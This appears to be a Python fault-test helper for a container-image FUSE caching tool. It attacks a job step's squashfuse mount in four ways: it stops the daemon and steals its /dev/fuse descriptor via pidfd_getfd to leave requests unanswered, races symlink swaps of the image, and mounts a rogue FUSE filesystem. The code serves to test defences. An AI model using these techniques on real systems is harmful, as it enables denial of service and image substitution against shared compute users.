"""A job user's tools against a cold step's FUSE mount (tests/faults/fuse.bats), run as that user.

  fuse_attack.py hold SECONDS MARKER
      stop the user's squashfuse_ll (the step's daemon, which runs as them), take its
      /dev/fuse descriptor (pidfd_getfd), then read the mount's requests and answer none:
      a task that looks up a name it never saw waits in the kernel for an answer
  fuse_attack.py swap SECONDS MARKER USER_DIR IMAGE FIFO_LINK
      when the step's mount point appears in USER_DIR, rename FIFO_LINK (a symlink to a
      FIFO) over IMAGE (the symlink the step's image names); then take the daemon's
      /dev/fuse descriptor, answer FUSE_INIT and nothing after it
  fuse_attack.py replace SECONDS MARKER USER_DIR IMAGE OTHER_LINK
      when the step's mount point appears in USER_DIR, rename OTHER_LINK (a symlink to
      another valid image) over IMAGE: the daemon, which opens the image after that, must
      not serve the other image
  fuse_attack.py ownfs SECONDS MARKER MOUNTPOINT
      mount a FUSE filesystem of the user's own on MOUNTPOINT (fusermount3: /dev/fuse must
      be open to users, as most distributions ship it), answer FUSE_INIT and no other
      request: an image named in it holds whatever looks it up

MARKER gets one line per step of the attack (pid <own pid>, stolen <daemon pid>, holding <opcode>, ...). Every loop
ends after SECONDS; the descriptor then closes with the process.
"""
import ctypes
import os
import select
import signal
import socket
import struct
import subprocess
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
SYS_PIDFD_GETFD = 438
FUSE_INIT = 26
IN_HEADER = struct.Struct("<IIQQIIIHH")  # len opcode unique nodeid uid gid pid total_extlen padding


def note(marker, text):
    with open(marker, "a") as f:
        f.write(text + "\n")


def my_daemon(deadline):
    """The newest squashfuse_ll of ours, or None once the deadline passed."""
    uid = os.getuid()
    while time.monotonic() < deadline:
        found = []
        for pid in os.listdir("/proc"):
            if not pid.isdigit():
                continue
            try:
                with open(f"/proc/{pid}/comm") as f:
                    if f.read().strip() != "squashfuse_ll":
                        continue
                with open(f"/proc/{pid}/stat") as f:
                    if f.read().rsplit(")", 1)[1].split()[0] not in "RSD":
                        continue  # stopped by an earlier attack, or gone
                if os.stat(f"/proc/{pid}").st_uid == uid:
                    found.append(int(pid))
            except OSError:
                continue
        if found:
            return max(found)
        time.sleep(0.001)
    return None


def steal(pid, fd):
    pidfd = os.pidfd_open(pid)
    got = libc.syscall(SYS_PIDFD_GETFD, pidfd, fd, 0)
    os.close(pidfd)
    if got < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd")
    return got


def serve(fuse, deadline, marker, answer_init):
    """Read requests until the deadline; answer FUSE_INIT only when told to, nothing else."""
    holding = False
    while time.monotonic() < deadline:
        ready, _, _ = select.select([fuse], [], [], 0.2)
        if not ready:
            continue
        try:
            request = os.read(fuse, 1 << 21)
        except OSError as error:
            note(marker, f"read: {error.strerror}")
            return
        _, opcode, unique, *_ = IN_HEADER.unpack_from(request)
        if opcode == FUSE_INIT and answer_init:
            # fuse_init_out: major minor max_readahead flags max_background congestion_threshold
            # max_write time_gran max_pages map_alignment flags2, then reserved words (64 bytes).
            body = struct.pack("<IIIIHHIIHHI", 7, 31, 1 << 17, 0, 16, 12, 1 << 17, 1, 32, 0, 0).ljust(64, b"\0")
            os.write(fuse, struct.pack("<IiQ", 16 + len(body), 0, unique) + body)
            note(marker, "init answered")
            continue
        if not holding:
            note(marker, f"holding {opcode}")
            holding = True


def hold(seconds, marker):
    deadline = time.monotonic() + seconds
    pid = my_daemon(deadline)
    if pid is None:
        note(marker, "no daemon")
        return 1
    os.kill(pid, signal.SIGSTOP)
    fuse = steal(pid, 3)
    note(marker, f"stolen {pid}")
    serve(fuse, deadline, marker, answer_init=False)
    return 0


def swap_on_mount_point(deadline, marker, user_dir, image, other_link):
    """Rename other_link over image the moment a mount point appears in user_dir."""
    while time.monotonic() < deadline:
        try:
            if any(n.startswith(".pyxis_cache_mnt.") for n in os.listdir(user_dir)):
                break
        except FileNotFoundError:
            pass  # the step prepares the user's directory first
        time.sleep(0.0005)
    else:
        note(marker, "no mount point")
        return False
    os.replace(other_link, image)
    note(marker, "swapped")
    return True


def replace(seconds, marker, user_dir, image, other_link):
    return 0 if swap_on_mount_point(time.monotonic() + seconds, marker, user_dir, image, other_link) else 1


def swap(seconds, marker, user_dir, image, fifo_link):
    deadline = time.monotonic() + seconds
    if not swap_on_mount_point(deadline, marker, user_dir, image, fifo_link):
        return 1
    pid = my_daemon(deadline)
    if pid is None:
        note(marker, "no daemon")
        return 1
    try:
        fuse = steal(pid, 3)
    except OSError as error:
        note(marker, f"steal: {error.strerror}")
        return 1
    note(marker, f"stolen {pid}")
    serve(fuse, deadline, marker, answer_init=True)
    return 0


def ownfs(seconds, marker, mountpoint):
    deadline = time.monotonic() + seconds
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    # fusermount3 mounts, then hands the /dev/fuse descriptor back over _FUSE_COMMFD (SCM_RIGHTS).
    env = dict(os.environ, _FUSE_COMMFD=str(theirs.fileno()))
    options = "rw,nosuid,nodev,fsname=pxc-attack,subtype=pxc-attack"
    mounted = subprocess.run(["fusermount3", "-o", options, "--", mountpoint], env=env, pass_fds=[theirs.fileno()])
    theirs.close()
    if mounted.returncode != 0:
        note(marker, f"fusermount3 failed: {mounted.returncode}")
        return 1
    _, fds, _, _ = socket.recv_fds(ours, 16, 1)
    if not fds:
        note(marker, "no descriptor from fusermount3")
        return 1
    note(marker, "mounted")
    serve(fds[0], deadline, marker, answer_init=True)
    return 0


def main():
    mode, seconds, marker = sys.argv[1], float(sys.argv[2]), sys.argv[3]
    note(marker, f"pid {os.getpid()}")
    if mode == "hold":
        return hold(seconds, marker)
    if mode == "swap":
        return swap(seconds, marker, *sys.argv[4:7])
    if mode == "replace":
        return replace(seconds, marker, *sys.argv[4:7])
    if mode == "ownfs":
        return ownfs(seconds, marker, sys.argv[4])
    print(f"unknown mode {mode}", file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main())
